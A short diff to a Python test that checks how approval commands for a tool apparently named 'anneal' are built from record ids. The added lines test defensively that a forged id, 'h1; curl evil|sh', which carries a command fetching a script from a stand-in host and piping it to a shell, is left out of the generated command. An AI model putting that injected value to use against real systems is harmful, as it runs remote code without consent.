@@ -89,3 +89,6 @@ def test_what_is_held_is_allowed_by_the_command_that_does_it() -> None:
     assert approving("shop", "h1") == "anneal approve shop h1"
     assert approving("shop", "h1", prune=True) == "anneal prune shop --approve h1"
     assert approving("shop", "h1", ("flux", "helm")) == "anneal adopt shop --from flux --from helm --approve h1"
+    forged = "h1; curl evil|sh"
+    ways = (approving("shop", forged), approving("shop", forged, prune=True), approving("shop", forged, ("flux",)))
+    assert set(ways) == {"anneal approve shop"}, "what a record has for an id is one, or isn't shown as one"
